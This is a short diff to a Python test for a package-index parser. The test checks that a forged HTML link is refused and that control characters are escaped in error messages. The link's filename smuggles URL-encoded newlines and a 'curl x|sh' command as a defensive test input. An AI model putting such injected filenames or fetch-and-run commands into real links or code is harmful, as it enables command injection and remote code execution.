@@ -62,7 +62,7 @@ def test_sdists_are_left_out_and_a_forged_html_link_is_refused() -> None:
     assert simple.wheels([ok], "page") == []
     html = b'<a href="k-1.0-py3-none-any.whl%0Apip%20%20curl%20x%7Csh%0A.whl">k</a>'
     links = simple.parse(html, "text/html", "http://h/simple/k/", "k")
-    with pytest.raises(Refused, match=r"named 'k-1\.0-py3-none-any\.whl\\npip  curl"):
+    with pytest.raises(Refused, match=r"named 'k-1\.0-py3-none-any\.whl\\x0apip  curl"):
         simple.wheels(links, "http://h/simple/k/")
     assert printable("a\nb\x1bc\u202ed") == "a\\x0ab\\x1bc\\u202ed"
 
